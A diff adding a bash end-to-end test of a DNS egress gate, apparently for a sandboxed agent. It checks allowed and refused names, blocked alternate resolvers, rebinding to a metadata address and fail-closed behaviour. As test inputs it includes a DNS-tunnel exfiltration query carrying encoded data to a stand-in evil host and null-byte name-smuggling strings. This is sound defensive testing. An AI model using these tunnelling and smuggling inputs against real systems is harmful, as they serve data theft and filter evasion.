@@ -1,0 +1,96 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: Apache-2.0
+# The DNS gate, with dig: what it answers, what it refuses, and what the world's resolver hears of it.
+
+# shellcheck source=tests/lib/e2e.sh
+. "$(dirname "$0")/../lib/e2e.sh"
+world_enter "$@"
+world_up
+
+query() { # DIG-ARG…
+	agent dig +time=3 +tries=1 "$@" 2>&1
+}
+
+for via in +notcp +tcp; do
+	out=$(query $via api.openai.com A)
+	has "$via: an allowed name is answered" "$out" 'IN\s+A\s+203\.0\.113\.10$'
+	out=$(query $via api.openai.com AAAA)
+	has "$via: over IPv6 too" "$out" 'IN\s+AAAA\s+2001:db8:113::10$'
+	world_forget
+	start=$EPOCHREALTIME
+	out=$(query $via evil.example)
+	has "$via: another name is REFUSED" "$out" 'status: (REFUSED|NXDOMAIN)'
+	at_once "$via: at once" 2.5 "$start"
+	audited "$via: reason" '"deny"' "$(reason dns-name-denied)" 'evil\.example'
+	refuse "$via: the resolver was not asked" asked evil.example
+	out=$(query $via @8.8.8.8 api.openai.com)
+	hasnt "$via: another resolver does not answer" "$out" '203\.0\.113\.10'
+	has "$via: and says so at once" "$out" 'refused|REFUSED|unreachable|prohibited|communications error|no servers'
+	out=$(query $via @2001:4860:4860::8888 api.openai.com)
+	hasnt "$via: nor over IPv6" "$out" '203\.0\.113\.10'
+	out=$(query $via "@$RESOLVER4" api.openai.com)
+	hasnt "$via: nor the host's resolver directly" "$out" '203\.0\.113\.10'
+done
+
+# names at the edge
+world_forget
+for n in API.OPENAI.COM ApI.oPeNaI.cOm api.openai.com.; do
+	out=$(query "$n")
+	has "$n is the same name" "$out" '203\.0\.113\.10'
+	has "$n: the question comes back as it was asked" "$out" "^;${n%.}\.\s"
+done
+for n in xapi.openai.com api.openai.com.evil.example openai.com com . x.api.openai.com \
+	api-openai.com apixopenai.com 'api\.openai.com' 'api.openai.com\000.evil.example' \
+	'\097pi.openai.com.evil.example' localhost 10.113.0.203.in-addr.arpa; do
+	world_forget
+	out=$(query "$n")
+	has "$n is refused" "$out" 'status: (REFUSED|NXDOMAIN|FORMERR|SERVFAIL)'
+	refuse "$n: the resolver was not asked" grep -q ' IN$' "$WORLD/log/unbound.out"
+done
+
+# a channel out: data in labels and in types
+world_forget
+for i in 1 2 3; do query "$i-c2VjcmV0.tunnel.evil.example" TXT >/dev/null; done
+refuse "a tunnel of names does not reach the resolver" grep -q tunnel "$WORLD/log/unbound.out"
+for t in TXT ANY NULL MX SRV NS SOA AXFR; do
+	out=$(query +notcp api.openai.com $t)
+	hasnt "type $t of an allowed name is not passed on" "$out" 'type not allowed|ns\.world'
+done
+for t in HTTPS SVCB; do
+	out=$(query api.openai.com $t)
+	hasnt "type $t carries no encrypted hello" "$out" 'ech='
+done
+out=$(query api.openai.com CH)
+hasnt "class CH is not passed on" "$out" '203\.0\.113'
+out=$(query +opcode=update api.openai.com)
+has "an update is refused" "$out" 'status: (REFUSED|NOTIMP|FORMERR)'
+out=$(query +bufsize=512 +ednsopt=65001:736563726574 api.openai.com)
+has "EDNS with an unknown option still works" "$out" '203\.0\.113\.10'
+
+# answers that point inward
+out=$(confined names dig +time=3 +tries=1 metadata.rebind.test A 2>&1)
+hasnt "an answer with the metadata address is withheld" "$out" 'IN\s+A\s+169'
+audited "and the reason told" "$(reason dns-answer-denied)"
+out=$(confined names dig +time=3 +tries=1 metadata.rebind.test AAAA 2>&1)
+hasnt "also when it is mapped into IPv6" "$out" 'IN\s+AAAA\s+::ffff:169'
+out=$(confined names dig +time=3 +tries=1 mixed.rebind.test A 2>&1)
+hasnt "of a mixed answer the bad address is withheld" "$out" 'IN\s+A\s+169'
+out=$(confined names dig +time=3 +tries=1 many.example A 2>&1)
+has "many addresses" "$out" 'IN\s+A\s+203\.0\.113\.2[0-3][0-9]'
+out=$(confined names dig +time=3 +tries=1 one.cname.test A 2>&1)
+has "a chain of CNAMEs ends in an address" "$out" 'IN\s+A\s+203\.0\.113\.70'
+out=$(confined names dig +time=3 +tries=1 nothere.rebind.test A 2>&1)
+has "what does not exist does not exist" "$out" 'status: NXDOMAIN'
+
+# not DNS at all
+tap_import "$(agent python3 "$CLIENTS/dns_cases.py" 2>&1)"
+
+# the resolver is dead: an error, soon, and not an open door
+kill "$(cat "$WORLD/pid/unbound")"
+start=$EPOCHREALTIME
+out=$(agent dig +time=15 +tries=1 api.openai.com 2>&1)
+has "without a resolver the answer is SERVFAIL" "$out" 'status: SERVFAIL'
+at_once "within its time" 12 "$start"
+audited "reason" "$(reason dns-upstream)"
+
+tap_done
